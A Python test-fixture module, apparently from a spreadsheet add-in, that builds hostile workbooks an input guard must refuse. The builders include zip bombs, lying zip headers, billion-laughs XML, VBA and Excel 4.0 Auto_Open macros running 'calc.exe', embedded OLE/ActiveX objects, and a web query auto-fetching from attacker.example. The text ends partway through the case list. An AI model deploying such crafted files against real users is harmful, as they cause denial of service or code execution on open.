"""Hostile workbooks the input guard (:mod:`addin.io.guard`) must refuse, for every command.

Each builder makes one file from a freshly built example workbook (``base``) in ``folder``.
``finding`` names the issue's finding (``"11.3"`` ...); ``"7"`` marks the files the guard
was first written against (issue 7): zip bombs, entity expansion, an OLE file renamed,
foreign VBA, a million rows.  The files that reproduce a finding of issue 11 as it was
reported (one for each finding) are refused by all four commands; every other file by one
command, each in turn (the guard is the same call in every command), so the security tests
stay quick.
"""

from __future__ import annotations

import io
import lzma
import random
import re
import struct
import zipfile
import zlib
from pathlib import Path

from bench.hostile import COMMANDS, Case, rewrite, sheet_part

MiB = 1 << 20
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_WB_RELS = "xl/_rels/workbook.xml.rels"
_TYPES = "[Content_Types].xml"


# --- helpers --------------------------------------------------------------------------------


def _read(path: Path, part: str) -> str:
    with zipfile.ZipFile(path) as zf:
        return zf.read(part).decode("utf-8")


def _offers(base: Path) -> tuple[str, str]:
    """The Offers sheet's part name and XML."""
    part = sheet_part(base, "Offers")
    return part, _read(base, part)


def _last_row(xml: str) -> int:
    return max(int(r) for r in re.findall(r'<row r="(\d+)"', xml))


def _append_rows(xml: str, rows: str) -> str:
    cut = xml.index("</sheetData>")
    return xml[:cut] + rows + xml[cut:]


def _sheet_with(
    base: Path,
    folder: Path,
    file: str,
    rows,
    dimension: str | None = None,
    root_attrs: str = "",
    stored: bool = False,
    compresslevel: int | None = None,
) -> Path:
    """The example with rows appended to its Offers sheet; ``rows(first)`` gives them, from
    the row after the sheet's last.  ``stored``: every entry stored, not deflated, so that
    no entry is compressed beyond the ratio limit; ``compresslevel``: zlib's, when deflated."""
    part, xml = _offers(base)
    xml = _append_rows(xml, rows(_last_row(xml) + 1))
    if dimension is not None:
        xml = re.sub(r'<dimension ref="[^"]*"/>', f'<dimension ref="{dimension}"/>', xml, count=1)
    if root_attrs:
        xml = xml.replace("<worksheet ", f"<worksheet {root_attrs} ", 1)
    return rewrite(
        base,
        folder / file,
        replace={part: xml.encode()},
        compression=zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED,
        compresslevel=compresslevel,
    )


def _relationship(rels: str, rid: str, rtype: str, target: str, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    rel = f'<Relationship Id="{rid}" Type="{rtype}" Target="{target}"{mode}/>'
    return rels.replace("</Relationships>", rel + "</Relationships>")


def _empty_rels() -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
        'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        "</Relationships>"
    )


def _override(types: str, part: str, content_type: str) -> str:
    return types.replace("</Types>", f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>')


def _sheet_rels(base: Path, part: str) -> tuple[str, str]:
    """The name and XML of a worksheet's relationships part (an empty one when it has none)."""
    folder, name = part.rsplit("/", 1)
    rels = f"{folder}/_rels/{name}.rels"
    with zipfile.ZipFile(base) as zf:
        text = zf.read(rels).decode() if rels in zf.namelist() else None
    return rels, text or _empty_rels()


def _foreign_vba() -> bytes:
    """Another VBA project: the xlwings add-in's own (an OLE compound file)."""
    import xlwings

    addin = Path(xlwings.__file__).parent / "addin" / "xlwings.xlam"
    with zipfile.ZipFile(addin) as zf:
        return zf.read("xl/vbaProject.bin")


def _headers(data: bytes, name: str) -> tuple[int, int]:
    """Offsets of the local and central headers of the entry ``name`` in a zip's bytes."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        info = zf.getinfo(name)
    local = info.header_offset
    assert data[local : local + 4] == b"PK\x03\x04"
    raw = name.encode()
    central = data.index(b"PK\x01\x02")
    while data[central + 46 : central + 46 + len(raw)] != raw:
        central = data.index(b"PK\x01\x02", central + 1)
    return local, central


def _patch(
    path: Path, name: str, *, size: int | None = None, method: int | None = None, flags: int | None = None
) -> Path:
    """Rewrite what the zip headers (local and central) of one entry declare."""
    data = bytearray(path.read_bytes())
    local, central = _headers(bytes(data), name)
    if size is not None:
        data[local + 22 : local + 26] = size.to_bytes(4, "little")
        data[central + 24 : central + 28] = size.to_bytes(4, "little")
    if method is not None:
        data[local + 8 : local + 10] = method.to_bytes(2, "little")
        data[central + 10 : central + 12] = method.to_bytes(2, "little")
    if flags is not None:
        data[local + 6 : local + 8] = flags.to_bytes(2, "little")
        data[central + 8 : central + 10] = flags.to_bytes(2, "little")
    path.write_bytes(bytes(data))
    return path


def _deflated_zeros(mib: int) -> bytes:
    """The deflate stream of ``mib`` MiB of zeros, made without compressing them all: one MiB
    compressed to a self-contained chunk (a full flush empties the window and aligns the chunk
    to a byte), repeated, then an empty final block."""
    chunk = zlib.compressobj(9, zlib.DEFLATED, -15)
    one = chunk.compress(bytes(MiB)) + chunk.flush(zlib.Z_FULL_FLUSH)
    return one * mib + zlib.compressobj(9, zlib.DEFLATED, -15).flush()


def _lzma_zeros(mib: int) -> bytes:
    """An LZMA entry's bytes for ``mib`` MiB of zeros as zipfile lays them out (its version,
    the filter's properties, the raw stream with an end marker), at LZMA's quickest preset:
    four times quicker than zipfile's default preset for the same data."""
    lzma_filter = {"id": lzma.FILTER_LZMA1, "preset": 0}
    props = lzma.compress(b"", format=lzma.FORMAT_ALONE, filters=[lzma_filter])[:5]
    compressor = lzma.LZMACompressor(lzma.FORMAT_RAW, filters=[lzma_filter])
    block = bytes(MiB)
    stream = b"".join(compressor.compress(block) for _ in range(mib)) + compressor.flush()
    return struct.pack("<BBH", 9, 4, len(props)) + props + stream


def _raw_entry(
    dst: Path, name: str, method: int, raw: bytes, size: int, crc: int, zip64: bool, flags: int = 0
) -> Path:
    """Append an entry whose compressed bytes are ``raw`` (``size`` bytes of content whose
    CRC-32 is ``crc``) to the package at ``dst``: its local header and data where the central
    directory was, the directory after them with one more record."""
    data = dst.read_bytes()
    with zipfile.ZipFile(dst) as zf:
        start, count = zf.start_dir, len(zf.infolist())
    eocd = data.rindex(b"PK\x05\x06")
    info = zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0))
    info.compress_type, info.file_size, info.compress_size, info.CRC = method, size, len(raw), crc
    info.flag_bits = flags
    local = info.FileHeader(zip64)
    dosdate = (info.date_time[0] - 1980) << 9 | info.date_time[1] << 5 | info.date_time[2]
    record = struct.pack(
        "<4s4B4HL2L5H2L",
        b"PK\x01\x02",
        info.create_version,
        info.create_system,
        info.extract_version,
        0,
        info.flag_bits,
        method,
        0,
        dosdate,
        crc,
        len(raw),
        size,
        len(info.filename.encode()),
        0,
        0,
        0,
        0,
        info.external_attr,
        start,
    )
    directory = data[start:eocd] + record + info.filename.encode()
    end = struct.pack(
        "<4s4H2LH",
        b"PK\x05\x06",
        0,
        0,
        count + 1,
        count + 1,
        len(directory),
        start + len(local) + len(raw),
        0,
    )
    dst.write_bytes(data[:start] + local + raw + directory + end)
    return dst


def _zeros_entry(dst: Path, name: str, mib: int, method: int, zip64: bool = False) -> Path:
    """Append an entry of ``mib`` MiB of zeros, compressed with ``method`` (deflate without
    compressing them all, LZMA at its quickest preset; bzip2 through zipfile)."""
    if method in (zipfile.ZIP_DEFLATED, zipfile.ZIP_LZMA):
        crc = 0
        block = bytes(MiB)
        for _ in range(mib):
            crc = zlib.crc32(block, crc)
        if method == zipfile.ZIP_LZMA:  # flag bit 1: the stream ends with an end marker
            return _raw_entry(dst, name, method, _lzma_zeros(mib), mib * MiB, crc, zip64, flags=0x2)
        return _raw_entry(dst, name, method, _deflated_zeros(mib), mib * MiB, crc, zip64)
    with zipfile.ZipFile(dst, "a") as zf:
        info = zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0))
        info.compress_type = method
        with zf.open(info, "w", force_zip64=zip64) as fh:
            block = bytes(MiB)
            for _ in range(mib):
                fh.write(block)
    return dst


# --- issue 7: the guard's first hostile files -----------------------------------------------


def zip_bomb(base: Path, folder: Path) -> Path:
    """A 256 MiB entry of zeros, about 256 KiB compressed."""
    return _zeros_entry(
        rewrite(base, folder / "bomb.xlsx"), "xl/media/image1.png", 256, zipfile.ZIP_DEFLATED, zip64=True
    )


def ratio_bomb(base: Path, folder: Path) -> Path:
    """Under the total-size bound, but one entry compressed 1000:1."""
    return rewrite(base, folder / "ratio.xlsx", add={"xl/media/image1.png": bytes(50 * MiB)})


def many_entries(base: Path, folder: Path) -> Path:
    return rewrite(base, folder / "many.xlsx", add={f"xl/media/image{i}.png": b"" for i in range(10_001)})


def lying_sizes(base: Path, folder: Path) -> Path:
    """A shared-strings part of 64 MiB whose headers declare 1,000 bytes."""
    big = f'<sst xmlns="{_MAIN}">'.encode() + b" " * (64 * MiB) + b"</sst>"
    dst = rewrite(base, folder / "lying.xlsx", replace={"xl/sharedStrings.xml": big})
    return _patch(dst, "xl/sharedStrings.xml", size=1000)


def encrypted_entry(base: Path, folder: Path) -> Path:
    dst = rewrite(base, folder / "encrypted.xlsx")
    return _patch(dst, "xl/styles.xml", flags=0x1)


_LAUGHS = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE sst [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">\n'
        for i in range(1, 10)
    )
    + f']>\n<sst xmlns="{_MAIN}" count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>'
)


def billion_laughs(base: Path, folder: Path, encoding: str = "utf-8") -> Path:
    text = _LAUGHS.replace("UTF-8", encoding.upper())
    return rewrite(
        base, folder / f"laughs-{encoding}.xlsx", replace={"xl/sharedStrings.xml": text.encode(encoding)}
    )


def ole_renamed(base: Path, folder: Path) -> Path:
    """A real OLE compound file (xlwings' own VBA project) renamed .xlsx."""
    from addin.workbook.builder import quickstart_vba

    dst = folder / "legacy.xlsx"
    dst.write_bytes(quickstart_vba())
    return dst


def foreign_vba(base: Path, folder: Path) -> Path:
    """A macro workbook carrying another VBA project (the xlwings add-in's own)."""
    return rewrite(base, folder / "macro.xlsm", replace={"xl/vbaProject.bin": _foreign_vba()})


def _literal_container(code: bytes, length: int) -> bytes:
    """An MS-OVBA compressed container of ``length`` bytes holding ``code`` (literals only)."""
    body = bytearray()
    for j in range(0, len(code), 8):
        body.append(0)
        body += code[j : j + 8]
    assert len(body) + 2 <= 4098
    out = b"\x01" + (0xB000 | (len(body) - 1)).to_bytes(2, "little") + bytes(body)
    assert len(out) <= length
    return out + bytes(length - len(out))


def _module_offset(vba: bytes, module: str) -> int:
    import olefile

    from addin.io.guard import ovba_decompress

    ole = olefile.OleFileIO(vba)
    info = ovba_decompress(ole.openstream("VBA/dir").read())
    ole.close()
    at = info.index(b"\x1a\x00" + len(module).to_bytes(4, "little") + module.encode())
    at = info.index(b"\x31\x00\x04\x00\x00\x00", at)
    return int.from_bytes(info[at + 6 : at + 10], "little")


def edited_vba_project(folder: Path, module: str, edit) -> bytes:
    """The shipped VBA project with one module stream rewritten (same size) by
    ``edit(stream, code_offset)``."""
    import olefile

    from addin.workbook.builder import quickstart_vba

    path = folder / f"vba-{module}-{id(edit)}.bin"
    path.write_bytes(quickstart_vba())
    ole = olefile.OleFileIO(str(path), write_mode=True)
    old = ole.openstream(f"VBA/{module}").read()
    new = edit(old, _module_offset(path.read_bytes(), module))
    assert len(new) == len(old) and new != old
    ole.write_stream(f"VBA/{module}", new)
    ole.close()
    return path.read_bytes()


def edited_vba(base: Path, folder: Path) -> Path:
    """The shipped VBA project with its sample module's code replaced by a Shell call."""
    code = b'Attribute VB_Name = "Module1"\r\nSub SampleCall()\r\n    Shell "calc.exe"\r\nEnd Sub\r\n'

    def edit(old: bytes, offset: int) -> bytes:
        length = len(old) - offset
        filler = b"'" + b"x" * max(0, (length - 3) * 8 // 9 - len(code) - 8)
        return old[:offset] + _literal_container(code + filler, length)

    vba = edited_vba_project(folder, "Module1", edit)
    return rewrite(base, folder / "edited.xlsm", replace={"xl/vbaProject.bin": vba})


def udf_module_with_shell(base: Path, folder: Path) -> Path:
    """The xlwings_udfs module Import Functions writes, with one more line of code."""
    from addin.vba import xlwings_udfs_code
    from addin.workbook.builder import quickstart_vba
    from tests.vba_project import excel_stored, with_module  # the MS-CFB writer

    text = xlwings_udfs_code("negotiation.xlsm").replace(
        "Exit Function", 'Shell "calc.exe"\n        Exit Function', 1
    )
    vba = with_module(quickstart_vba(), "xlwings_udfs", excel_stored(text))
    return rewrite(base, folder / "udf-shell.xlsm", replace={"xl/vbaProject.bin": vba})


def million_rows(base: Path, folder: Path) -> Path:
    """The Offers sheet padded to a million rows."""
    return _sheet_with(
        base,
        folder,
        "million.xlsx",
        lambda first: "".join(
            f'<row r="{r}"><c r="A{r}"><v>1</v></c></row>' for r in range(first, 1_000_001)
        ),
        compresslevel=1,  # 4.9 MB either way, three times quicker than the default level
    )


# --- 11.3: the declared dimension, a far cell ------------------------------------------------

# Parallel to each other: far_cell_full_dimension, far_cell, full_dimension, far_corner and
# many_cells are one call of _sheet_with each, with the case's own file name and rows; kept one
# function per case because the cases list names them one by one, each with its docstring.


def far_cell_full_dimension(base: Path, folder: Path) -> Path:
    """The finding as reported: ``<dimension ref="A1:XFD1048576"/>``, one cell in the last
    row (a reader that trusts the dimension walks 17 billion cells)."""
    return _sheet_with(
        base,
        folder,
        "far-cell.xlsx",
        lambda first: '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
        dimension="A1:XFD1048576",
    )


def far_cell(base: Path, folder: Path) -> Path:
    """One cell in Excel's last row, the declared dimension left as it was."""
    return _sheet_with(
        base,
        folder,
        "far-cell-only.xlsx",
        lambda first: '<row r="1048576"><c r="A1048576"><v>1</v></c></row>',
    )


def full_dimension(base: Path, folder: Path) -> Path:
    """The whole grid declared, no far cell."""
    return _sheet_with(base, folder, "full-dimension.xlsx", lambda first: "", dimension="A1:XFD1048576")


def far_corner(base: Path, folder: Path) -> Path:
    """Two cells within the row limit that span 150,000 rows x 16,384 columns."""
    return _sheet_with(
        base,
        folder,
        "far-corner.xlsx",
        lambda first: '<row r="150000"><c r="A150000"><v>1</v></c><c r="XFD150000"><v>1</v></c></row>',
    )


def many_cells(base: Path, folder: Path) -> Path:
    """600,000 cells in 1,000 rows (a compact block, no far cell)."""
    row = "<c><v>1</v></c>" * 600
    return _sheet_with(
        base,
        folder,
        "many-cells.xlsx",
        lambda first: "".join(f'<row r="{r}">{row}</row>' for r in range(first, first + 1000)),
        stored=True,
    )


# --- 11.4: compression methods, declared sizes ------------------------------------------------


def bzip2_entry(base: Path, folder: Path) -> Path:
    """64 MiB of zeros compressed with bzip2 (about 100 bytes), declared as 1,000 bytes."""
    dst = _zeros_entry(rewrite(base, folder / "bzip2.xlsx"), "customXml/item1.xml", 64, zipfile.ZIP_BZIP2)
    return _patch(dst, "customXml/item1.xml", size=1000)


def lzma_entry(base: Path, folder: Path) -> Path:
    """64 MiB of zeros compressed with LZMA, declared as 1,000 bytes."""
    dst = _zeros_entry(rewrite(base, folder / "lzma.xlsx"), "customXml/item1.xml", 64, zipfile.ZIP_LZMA)
    return _patch(dst, "customXml/item1.xml", size=1000)


def deflate64_entry(base: Path, folder: Path) -> Path:
    """An entry whose headers name Deflate64 (method 9)."""
    dst = rewrite(base, folder / "deflate64.xlsx", add={"customXml/item1.xml": b"<a/>" * 1000})
    return _patch(dst, "customXml/item1.xml", method=9)


# --- 11.5: active content found by its declarations, wherever it lives ----------------------


def foreign_vba_elsewhere(base: Path, folder: Path) -> Path:
    """The finding as reported: a foreign VBA project at ``xl/media/image1.bin``, reached
    through the workbook's vbaProject relationship (the ``.bin`` Default content type)."""
    rels = _read(base, _WB_RELS).replace('Target="vbaProject.bin"', 'Target="media/image1.bin"')
    return rewrite(
        base,
        folder / "vba-elsewhere.xlsm",
        replace={_WB_RELS: rels.encode()},
        drop=("xl/vbaProject.bin",),
        add={"xl/media/image1.bin": _foreign_vba()},
    )


def foreign_vba_by_content_type(base: Path, folder: Path) -> Path:
    """The shipped VBA project kept, and a foreign one declared by an Override content type
    at ``xl/media/image2.png``."""
    types = _override(_read(base, _TYPES), "xl/media/image2.png", "application/vnd.ms-office.vbaProject")
    return rewrite(
        base,
        folder / "vba-override.xlsm",
        replace={_TYPES: types.encode()},
        add={"xl/media/image2.png": _foreign_vba()},
    )


def _with_sheet(
    base: Path,
    folder: Path,
    file: str,
    part: str,
    xml: str,
    rtype: str,
    content_type: str,
    title: str,
    names: str = "",
) -> Path:
    """The example with one more workbook-level sheet (a macro or dialog sheet)."""
    wb = _read(base, "xl/workbook.xml").replace(
        "</sheets>", f'<sheet name="{title}" sheetId="99" state="hidden" r:id="rId99"/></sheets>'
    )
    if names:
        wb = wb.replace("</sheets>", f"</sheets><definedNames>{names}</definedNames>", 1)
    rels = _relationship(_read(base, _WB_RELS), "rId99", rtype, part.removeprefix("xl/"))
    types = _override(_read(base, _TYPES), part, content_type)
    return rewrite(
        base,
        folder / file,
        replace={"xl/workbook.xml": wb.encode(), _WB_RELS: rels.encode(), _TYPES: types.encode()},
        add={part: xml.encode()},
    )


def macro_sheet_elsewhere(base: Path, folder: Path) -> Path:
    """The finding as reported: an Excel 4.0 macro sheet under ``xl/macros/``, run on opening
    by an ``Auto_Open`` name."""
    xml = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<xm:macrosheet '
        f'xmlns="{_MAIN}" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
        '<sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row>'
        '<row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>'
    )
    return _with_sheet(
        base,
        folder,
        "xlm.xlsm",
        "xl/macros/sheet1.xml",
        xml,
        "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
        "application/vnd.ms-excel.macrosheet+xml",
        "Macro1",
        '<definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName>',
    )


def dialog_sheet(base: Path, folder: Path) -> Path:
    xml = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<dialogsheet '
        f'xmlns="{_MAIN}"><sheetPr/><sheetViews><sheetView workbookViewId="0"/></sheetViews>'
        "</dialogsheet>"
    )
    return _with_sheet(
        base,
        folder,
        "dialog.xlsm",
        "xl/dialogs/dialog1.xml",
        xml,
        f"{_REL}/dialogsheet",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.dialogsheet+xml",
        "Dialog1",
    )


def _sheet_object(
    base: Path,
    folder: Path,
    file: str,
    rtype: str,
    parts: dict[str, bytes],
    types: dict[str, str],
    target: str,
) -> Path:
    """The example with an object attached to its Offers sheet by a relationship."""
    part, _ = _offers(base)
    rels_name, rels = _sheet_rels(base, part)
    rels = _relationship(rels, "rId90", rtype, target)
    text = _read(base, _TYPES)
    for name, content_type in types.items():
        text = _override(text, name, content_type)
    with zipfile.ZipFile(base) as zf:
        has_rels = rels_name in zf.namelist()
    replace = {_TYPES: text.encode(), **({rels_name: rels.encode()} if has_rels else {})}
    add = {**parts, **({} if has_rels else {rels_name: rels.encode()})}
    return rewrite(base, folder / file, replace=replace, add=add)


def activex_control(base: Path, folder: Path) -> Path:
    """An ActiveX control (its XML and its binary) attached to the Offers sheet, kept in
    ``xl/media/``."""
    ocx = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<ax:ocx '
        'xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
        f'xmlns:r="{_REL}" ax:classid="{{8BD21D40-EC42-11CE-9E0D-00AA006002F3}}" '
        'ax:persistence="persistStorage" r:id="rId1"/>'
    )
    bin_rels = _relationship(
        _empty_rels(),
        "rId1",
        "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary",
        "control1.bin",
    )
    return _sheet_object(
        base,
        folder,
        "activex.xlsm",
        f"{_REL}/control",
        {
            "xl/media/control1.xml": ocx.encode(),
            "xl/media/_rels/control1.xml.rels": bin_rels.encode(),
            "xl/media/control1.bin": _foreign_vba(),
        },
        {
            "xl/media/control1.xml": "application/vnd.ms-office.activeX+xml",
            "xl/media/control1.bin": "application/vnd.ms-office.activeX",
        },
        "../media/control1.xml",
    )


def ole_object(base: Path, folder: Path) -> Path:
    """An embedded OLE object attached to the Offers sheet, kept in ``xl/media/``."""
    return _sheet_object(
        base,
        folder,
        "ole-object.xlsx",
        f"{_REL}/oleObject",
        {"xl/media/object1.bin": _foreign_vba()},
        {"xl/media/object1.bin": "application/vnd.openxmlformats-officedocument.oleObject"},
        "../media/object1.bin",
    )


def undeclared_ole(base: Path, folder: Path) -> Path:
    """An OLE compound file (a foreign VBA project) that nothing declares, named as an
    image."""
    return rewrite(base, folder / "ole-image.xlsx", add={"xl/media/image9.png": _foreign_vba()})


def external_link(base: Path, folder: Path) -> Path:
    """A link to another workbook (an externalLink part and its external path)."""
    part = "xl/externalLinks/externalLink1.xml"
    xml = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<externalLink '
        f'xmlns="{_MAIN}" xmlns:r="{_REL}"><externalBook r:id="rId1"><sheetNames>'
        '<sheetName val="Strategy"/></sheetNames></externalBook></externalLink>'
    )
    link_rels = _relationship(
        _empty_rels(), "rId1", f"{_REL}/externalLinkPath", "negotiation.xlsx", external=True
    )
    wb = _read(base, "xl/workbook.xml").replace(
        "</sheets>", '</sheets><externalReferences><externalReference r:id="rId98"/></externalReferences>'
    )
    rels = _relationship(
        _read(base, _WB_RELS), "rId98", f"{_REL}/externalLink", "externalLinks/externalLink1.xml"
    )
    types = _override(
        _read(base, _TYPES),
        part,
        "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
    )
    return rewrite(
        base,
        folder / "external-link.xlsx",
        replace={"xl/workbook.xml": wb.encode(), _WB_RELS: rels.encode(), _TYPES: types.encode()},
        add={part: xml.encode(), "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels.encode()},
    )


# --- 11.8: rows counted as XML elements, in every worksheet part ----------------------------

_ROWS = 300_000


def _rows(template: str):
    """``_ROWS`` rows from ``first``, ``template``'s ``{r}`` the row number (formatted in one
    operation)."""
    count = template.count("{r}")
    each = template.replace("%", "%%").replace("{r}", "%d")
    return lambda first: (each * _ROWS) % tuple(r for r in range(first, first + _ROWS) for _ in range(count))


def rows_tab(base: Path, folder: Path) -> Path:
    return _sheet_with(base, folder, "rows-tab.xlsx", _rows('<row\tr="{r}"><c r="A{r}"><v>1</v></c></row>'))


def rows_newline(base: Path, folder: Path) -> Path:
    return _sheet_with(
        base, folder, "rows-newline.xlsx", _rows('<row\nr="{r}"><c r="A{r}"><v>1</v></c></row>')
    )


def rows_prefixed(base: Path, folder: Path) -> Path:
    return _sheet_with(
        base,
        folder,
        "rows-prefix.xlsx",
        _rows('<x:row r="{r}"><x:c r="A{r}"><x:v>1</x:v></x:c></x:row>'),
        root_attrs=f'xmlns:x="{_MAIN}"',
    )


def rows_empty(base: Path, folder: Path) -> Path:
    return _sheet_with(base, folder, "rows-empty.xlsx", lambda first: "<row/>" * _ROWS, stored=True)


def rows_elsewhere(base: Path, folder: Path) -> Path:
    """The Offers sheet, 300,000 rows longer, moved out of ``xl/worksheets/``."""
    part, xml = _offers(base)
    first = _last_row(xml) + 1
    xml = _append_rows(xml, _rows('<row r="{r}"><c r="A{r}"><v>1</v></c></row>')(first))
    new = "xl/data/offers.xml"
    rels = _read(base, _WB_RELS).replace(f'Target="{part.removeprefix("xl/")}"', 'Target="data/offers.xml"')
    types = _read(base, _TYPES).replace(f'PartName="/{part}"', f'PartName="/{new}"')
    return rewrite(
        base,
        folder / "rows-elsewhere.xlsx",
        drop=(part,),
        add={new: xml.encode()},
        replace={_WB_RELS: rels.encode(), _TYPES: types.encode()},
    )


# --- 11.9: entries, shared strings, elements inside every other limit -----------------------


def million_entries(base: Path, folder: Path, total: int = 1_700_000) -> Path:
    """The finding as reported: 1.7 million zip entries (the example's, plus empty stored
    ones sharing one local header), a zip64 end of central directory declaring them all."""
    data = base.read_bytes()
    with zipfile.ZipFile(base) as zf:
        start = zf.start_dir
        count = total - len(zf.infolist())
    eocd = data.rindex(b"PK\x05\x06")
    directory = data[start:eocd]
    local_at = start
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0x21, 0, 0, 0, 1, 0) + b"e"
    # every record the same but for its 7-character name: one record, joined between the names
    record = struct.pack(
        "<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0x21, 0, 0, 0, 7, 0, 0, 0, 0, 0, local_at
    )
    # the names formatted in one operation, each record's bytes a %-free template
    template = record.replace(b"%", b"%%") + b"%07x"
    extra = (template * count % tuple(range(count))) if count > 0 else b""
    cd_at = local_at + len(local)
    cd_size = len(directory) + len(extra)
    zip64 = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, total, total, cd_size, cd_at)
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, cd_at + cd_size, 1)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, cd_size, cd_at, 0)
    dst = folder / "entries.xlsx"
    with dst.open("wb") as fh:
        fh.writelines((data[:start], local, directory, extra, zip64, locator, end))
    return dst


def many_shared_strings(base: Path, folder: Path) -> Path:
    """4 million (empty) shared strings, 20 MB stored: inside every size limit."""
    sst = _read(base, "xl/sharedStrings.xml")
    cut = sst.rindex("</sst>")
    big = sst[:cut].encode() + b"<si/>" * 4_000_000 + b"</sst>"
    return rewrite(
        base, folder / "strings.xlsx", replace={"xl/sharedStrings.xml": big}, compression=zipfile.ZIP_STORED
    )


def long_shared_strings(base: Path, folder: Path) -> Path:
    """One shared string of 11 million characters."""
    sst = _read(base, "xl/sharedStrings.xml")
    cut = sst.rindex("</sst>")
    big = sst[:cut].encode() + b"<si><t>" + b"a" * 11_000_000 + b"</t></si></sst>"
    return rewrite(
        base,
        folder / "long-strings.xlsx",
        replace={"xl/sharedStrings.xml": big},
        compression=zipfile.ZIP_STORED,
    )


def many_elements(base: Path, folder: Path) -> Path:
    """2.1 million empty elements inside one row (no cells, so no cell limit is reached)."""
    return _sheet_with(
        base,
        folder,
        "elements.xlsx",
        lambda first: f'<row r="{first}">' + "<x/>" * 2_100_000 + "</row>",
        stored=True,
    )


def long_tag(base: Path, folder: Path) -> Path:
    """One 20 MiB attribute in a worksheet's row tag."""
    return _sheet_with(
        base,
        folder,
        "long-tag.xlsx",
        lambda first: f'<row r="{first}" x="' + "a" * (20 * MiB) + '"/>',
        stored=True,
    )


# --- found in review: parts openpyxl reads whole, external data ----------------------------


def styles_bomb(base: Path, folder: Path) -> Path:
    """1.5 million cell formats in styles.xml (2.6 MB, some 37:1: under the ratio bound);
    openpyxl reads the styles part whole, even read-only (27 s and 1.3 GiB before)."""
    styles = _read(base, "xl/styles.xml")
    at = styles.index(">", styles.index("<cellXfs")) + 1
    # a random format digit each, so the part compresses under the 100:1 bound
    digits = random.Random(1).randbytes(1_500_000).translate(bytes(48 + b % 10 for b in range(256)))
    before, after = '<xf numFmtId="', '" fontId="0" fillId="0" borderId="0" xfId="0"/>'
    xfs = before + (after + before).join(digits.decode("ascii")) + after
    return rewrite(
        base,
        folder / "styles.xlsm",
        replace={"xl/styles.xml": (styles[:at] + xfs + styles[at:]).encode()},
        compresslevel=1,  # zlib's quickest level, a third of the default's time
    )


def defined_names_bomb(base: Path, folder: Path) -> Path:
    """800,000 defined names in the workbook part, which openpyxl also reads whole (brief: 25 s
    and 845 MiB before)."""
    wb = _read(base, "xl/workbook.xml")
    rng = random.Random(2)
    tags = [rng.getrandbits(30) for _ in range(800_000)]  # names that do not compress away
    # each name's row from its tag (1 to 999), the names formatted in one operation
    template = '<definedName name="n%d_%d">Offers!$A$%d</definedName>' * len(tags)
    names = template % tuple(v for k, tag in enumerate(tags) for v in (tag, k, 1 + tag % 999))
    if "<definedNames>" in wb:
        wb = wb.replace("<definedNames>", "<definedNames>" + names, 1)
    else:
        wb = wb.replace("</sheets>", "</sheets><definedNames>" + names + "</definedNames>", 1)
    # zlib's quickest level: 10.8 MB, in a third of the default's time
    return rewrite(base, folder / "names.xlsm", replace={"xl/workbook.xml": wb.encode()}, compresslevel=1)


def data_connection(base: Path, folder: Path) -> Path:
    """A web query refreshed on open (connections.xml): external data, fetched by Excel."""
    part = "xl/connections.xml"
    xml = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<connections '
        f'xmlns="{_MAIN}"><connection id="1" name="q" type="4" refreshedVersion="6" '
        'refreshOnLoad="1"><webPr url="http://attacker.example/q"/></connection>'
        "</connections>"
    )
    rels = _relationship(_read(base, _WB_RELS), "rId97", f"{_REL}/connections", "connections.xml")
    types = _override(
        _read(base, _TYPES),
        part,
        "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml",
    )
    return rewrite(
        base,
        folder / "connection.xlsx",
        replace={_WB_RELS: rels.encode(), _TYPES: types.encode()},
        add={part: xml.encode()},
    )


def _one(i: int) -> tuple[str, ...]:
    """One command per variant, in turn, so every command refuses some of them."""
    return (COMMANDS[i % len(COMMANDS)],)


_SPECS = [
    # name, finding, builder, reason, all four commands?
    ("zip-bomb", "7", zip_bomb, "mib uncompressed", False),
    ("compression-ratio", "7", ratio_bomb, "compressed more than 100:1", False),
    ("entry-count", "7", many_entries, "more than 10,000 entries", False),
    ("lying-sizes", "7", lying_sizes, "the zip package is damaged", False),
    ("encrypted-entry", "7", encrypted_entry, "encrypted entries", False),
    ("billion-laughs", "7", billion_laughs, "declares a document type", False),
    (
        "billion-laughs-utf16",
        "7",
        lambda b, f: billion_laughs(b, f, "utf-16"),
        "declares a document type",
        False,
    ),
